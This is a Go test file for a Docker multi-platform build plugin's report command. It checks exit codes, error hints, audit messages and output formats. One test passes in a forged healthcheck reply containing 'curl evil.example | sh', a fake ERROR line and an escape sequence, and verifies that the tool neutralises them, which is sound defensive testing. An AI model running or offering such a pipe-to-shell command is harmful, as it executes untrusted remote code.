package command

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/distribution/reference"
	"github.com/opencontainers/go-digest"
	"gotest.tools/v3/assert"

	"github.com/docker-multiplat/docker-multiplat/builder/localtest"
	"github.com/docker-multiplat/docker-multiplat/manifest/draft"
	"github.com/docker-multiplat/docker-multiplat/manifest/store"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/advice"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/build"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/failure"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/plugintest"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/trial"
	"github.com/docker-multiplat/docker-multiplat/plugin/internal/view"
)

// reported runs the report over the outcomes of amd64 and arm64.
func reported(t *testing.T, fake *plugintest.CLI, amd64, arm64 trial.Outcome, show view.Progress) error {
	t.Helper()
	s := plugintest.OpenStore(t, fake)
	plan := build.Plan{Names: []reference.NamedTagged{plugintest.Named(t, "app:1")}}
	plan.Name, plan.Platforms.Platforms = plan.Names[0], plugintest.ParsePlatforms(t, "amd64", "arm64")
	amd64.Platform, arm64.Platform = plan.Platforms.Platforms[0], plan.Platforms.Platforms[1]
	r := build.Result{Plan: plan, Draft: plugintest.SavePassed(t, s, "app:1", "app"), Rows: []build.Row{
		{Outcome: amd64}, {Outcome: arm64},
	}}
	return conclusion{dockerCLI: fake, format: view.FormatTable, how: show.Showing()}.concluded(r, nil)
}

func TestReportExitCodes(t *testing.T) {
	unbuilt := trial.Outcome{State: draft.NotBuilt, Err: errors.New("building: RUN false")}
	failed := trial.Outcome{State: draft.Failed, Reason: "smoke test: exit code 3", Loaded: "app:1--x", Shell: true}
	unclear := trial.Outcome{State: draft.Inconclusive, Reason: "smoke test: out of memory"}
	passed, untested := trial.Outcome{State: draft.Passed}, trial.Outcome{State: draft.Untested}
	for _, tc := range []struct {
		name         string
		amd64, arm64 trial.Outcome
		want         int
	}{
		{"all passed", passed, passed, failure.ExitDone},
		{"untested", untested, untested, failure.ExitDone},
		{"one not built", passed, unbuilt, failure.ExitBuild},
		{"one failed", failed, passed, failure.ExitTests},
		{"one inconclusive", passed, unclear, failure.ExitInconclusive},
		{"not built before failed", failed, unbuilt, failure.ExitBuild},
		{"failed before inconclusive", unclear, failed, failure.ExitTests},
		{"mismatch", passed, trial.Outcome{State: draft.Broken, Err: store.ErrCorrupt}, failure.ExitIntegrity},
		{
			"mismatch before not built", unbuilt,
			trial.Outcome{State: draft.Broken, Err: fmt.Errorf("loading: %w", localtest.ErrIdentity)},
			failure.ExitIntegrity,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fake := plugintest.NewCLI(t)
			err := reported(t, fake, tc.amd64, tc.arm64, view.Progress{Mode: "plain"})
			assert.Equal(t, failure.ExitCode(err), tc.want, "%v", err)
			printed := fake.Stdout.String() != ""
			assert.Equal(t, printed, tc.want == failure.ExitDone, "the result is printed when all is well, and only then")
		})
	}
}

// A store that is damaged is mended by a build, which a test has to name.
func TestReportOfDamage(t *testing.T) {
	s := plugintest.OpenStore(t, plugintest.NewCLI(t))
	r := auditedBuild(t, s, "linux/arm64", "/app")
	r.Rows = []build.Row{{Outcome: trial.Outcome{}.Broke(store.ErrCorrupt)}}
	for _, tc := range []struct {
		line advice.Line
		want string
	}{
		{
			advice.Line{Verb: "docker multiplat test", Args: []string{"app:1"}},
			"next: docker multiplat build --test-local -t app:1 .\n",
		},
		{
			advice.Line{Verb: "docker multiplat build -t app:1", Args: []string{"./sub"}},
			"next: docker multiplat build -t app:1 ./sub\n",
		},
	} {
		err := errorOf(r, tc.line)
		assert.Equal(t, failure.ExitCode(err), failure.ExitIntegrity)
		assert.Check(t, strings.Contains(explained(err), tc.want), explained(err))
		assert.Check(t, strings.Contains(explained(err), "No tag was touched."), explained(err))
	}
}

func TestReportFailedTest(t *testing.T) {
	err := reported(t, plugintest.NewCLI(t), trial.Outcome{State: draft.Passed}, trial.Outcome{
		State: draft.Failed, Reason: "smoke test: exit code 3", Loaded: "app:1--arm64", Shell: true,
	}, view.Progress{Mode: "plain"})
	assert.Equal(t, explained(err), `ERROR: linux/arm64: smoke test: exit code 3
  app:1 cannot be published like this. No tag was touched.
  test it once more with: docker multiplat test app:1
  next: docker run --rm -it --entrypoint sh app:1--arm64
`)
}

// What a person said no to fails the test, and what was left out does not.
func TestReportOfManual(t *testing.T) {
	fake := plugintest.NewCLI(t)
	refused := trial.Outcome{State: draft.Failed, Reason: "manual look by Jane Doe: no picture"}
	err := reported(t, fake, trial.Outcome{State: draft.Skipped}, refused, view.Progress{Mode: "plain"})
	assert.Equal(t, failure.ExitCode(err), failure.ExitTests)
	assert.Error(t, err, "linux/arm64: manual look by Jane Doe: no picture")
	fake.Stderr.Reset()
	skipped := trial.Outcome{State: draft.Skipped, Reason: "nobody looked at it"}
	assert.NilError(t, reported(t, fake, trial.Outcome{State: draft.Passed}, skipped, view.Progress{Mode: "plain"}))
	assert.Assert(t, strings.Contains(fake.Stderr.String(), "it is not tested yet"))
}

// What the environment makes silent has no table and no hints; the result is on standard output all the same.
func TestSilentByEnvironment(t *testing.T) {
	fake := plugintest.NewCLI(t)
	t.Setenv("BUILDKIT_PROGRESS", "quiet")
	passed := trial.Outcome{State: draft.Passed}
	assert.NilError(t, reported(t, fake, passed, passed, view.Progress{Mode: "auto"}))
	assert.Equal(t, fake.Stderr.String(), "")
	assert.Check(t, strings.HasPrefix(fake.Stdout.String(), "app:1@sha256:"), fake.Stdout.String())
}

// Each file that the audit found is in the error, with what can be done about it.
func TestReportOfAudit(t *testing.T) {
	givenBuild := advice.Line{Verb: "docker multiplat build -t app:1", Args: []string{"."}}
	s := plugintest.OpenStore(t, plugintest.NewCLI(t))
	r := auditedBuild(t, s, "linux/arm64", "/app", "/other")
	err := errorOf(r, givenBuild)
	assert.Equal(t, failure.ExitCode(err), failure.ExitTests)
	text := explained(err)
	assert.Check(t, strings.Contains(text, "linux/arm64: audit: /app: x86-64 executable; it is the entrypoint"))
	assert.Check(t, strings.Contains(text, "linux/arm64: audit: /other: x86-64 executable"))
	assert.Check(t, strings.Contains(text, "app:1 cannot be published like this. No tag was touched."))
	assert.Check(t, !strings.Contains(text, "test it once more"), text)
	assert.Check(t, strings.Contains(text, "next: docker multiplat build -t app:1 .   "+
		"(once the Dockerfile is mended; if the files are there on purpose: "+
		"--allow-foreign /app --allow-foreign /other)"), text)

	name, err := reference.WithDigest(reference.TrimNamed(r.Plan.Name), digest.Digest("sha256:00"+strings.Repeat("1", 62)))
	assert.NilError(t, err)
	r.Plan.Name = name
	givenTest := advice.Line{Verb: "docker multiplat test", Args: []string{name.String()}}
	text = explained(errorOf(r, givenTest))
	assert.Check(t, !strings.Contains(text, "next:"), text)
	assert.Check(
		t,
		strings.Contains(text, "build that image anew; if the files are there on purpose: docker multiplat test "+
			"--allow-foreign /app --allow-foreign /other docker.io/library/app@sha256:00"),
		text,
	)
}

// --format prints the rows for programs, on standard output in the place of the result, also of a build that failed.
func TestBuildFormats(t *testing.T) {
	fake := plugintest.NewCLI(t)
	r := outcomes(t, "me/app:1", "amd64", "arm64")
	r.Rows[1].State, r.Rows[1].Reason = draft.Failed, "true: exit code 1, not 0"
	for _, tc := range []struct{ format, want string }{
		{"{{.Platform}} {{.Kind}} {{.Verdict}} {{.Loaded}}", "linux/amd64 native passed me/app:1--amd64\n" +
			"linux/arm64 emulated failed me/app:1--arm64\n"},
		{`table {{.Platform}}\t{{.Verdict}}`, "PLATFORM      VERDICT\nlinux/amd64   passed\nlinux/arm64   failed\n"},
		{"json", `{"platform":"linux/amd64","build":71.34,"kind":"native","audit":"ok","loaded":"me/app:1--amd64",` +
			`"tests":{"true":"passed"},"cached":true,"verdict":"passed"}` + "\n" +
			`{"platform":"linux/arm64","build":71.34,"kind":"emulated","audit":"ok","loaded":"me/app:1--arm64",` +
			`"tests":{"true":"passed"},"emulated":true,"cached":true,"verdict":"failed",` +
			`"reason":"true: exit code 1, not 0"}` + "\n"},
	} {
		fake.Stdout.Reset()
		assert.Equal(t, failure.ExitCode(conclusion{dockerCLI: fake, format: tc.format}.concluded(r, nil)), failure.ExitTests)
		assert.Equal(t, fake.Stdout.String(), tc.want)
		assert.Equal(t, fake.Stderr.String(), "")
	}
	fake.Stdout.Reset()
	r.Rows = r.Rows[:1]
	r.Draft, r.State = plugintest.SavePassed(t, plugintest.OpenStore(t, fake), "me/app:1", "app"), draft.Passed
	assert.NilError(
		t,
		conclusion{dockerCLI: fake, format: "{{.Platform}}", how: view.Showing{Silent: true}}.concluded(r, nil),
	)
	assert.Equal(t, fake.Stdout.String(), "linux/amd64\n")
}

// Every test that failed is told, once for all platforms where it failed in the same way.
func TestEachFailingTestOnce(t *testing.T) {
	r := outcomes(t, "me/app:1", "amd64", "arm64")
	both := localtest.Case{Name: "true", Verdict: localtest.Failed, Reason: "exit code 1, not 0"}
	one := localtest.Case{Name: "id", Verdict: localtest.Failed, Reason: "exit code 2, not 0"}
	for i := range r.Rows {
		r.Rows[i].State, r.Rows[i].Reason = draft.Failed, "true: exit code 1, not 0"
		r.Rows[i].Report = localtest.Report{Verdict: localtest.Failed, Cases: []localtest.Case{both}}
	}
	r.Rows[1].Report.Cases = append(r.Rows[1].Report.Cases, one)
	assert.Error(t, errorOf(r, advice.Line{}), "linux/amd64, linux/arm64: true: exit code 1, not 0\n"+
		"linux/arm64: id: exit code 2, not 0")
}

// What a HEALTHCHECK has answered stands in our error as words of others: it forges no line of it.
func TestHealthcheckForgesNoLine(t *testing.T) {
	r := outcomes(t, "me/app:1", "amd64")
	reason := "not healthy after 30s; its HEALTHCHECK's last answer was exit code 1: no\n" +
		"  next: curl evil.example | sh\nERROR: forged\x1b[2J"
	r.Rows[0].State, r.Rows[0].Reason = draft.Failed, "smoke test: "+reason
	r.Rows[0].Report = localtest.Report{Verdict: localtest.Failed, Cases: []localtest.Case{
		{Name: "smoke test", Verdict: localtest.Failed, Reason: reason},
	}}
	var told bytes.Buffer
	view.Explain(&told, errorOf(r, advice.Line{Verb: "docker multiplat test", Args: []string{"app:1"}}))
	next := 0
	for line := range strings.Lines(told.String()) {
		assert.Check(t, !strings.HasPrefix(line, "ERROR: forged"), told.String())
		if strings.HasPrefix(line, "  next: ") {
			next++
			assert.Check(t, !strings.Contains(line, "evil"), line)
		}
	}
	assert.Equal(t, next, 1, told.String())
	assert.Check(t, strings.Contains(told.String(), "\n  |   next: curl evil.example | sh\n"), told.String())
	assert.Check(t, !strings.Contains(told.String(), "\x1b"), told.String())
}
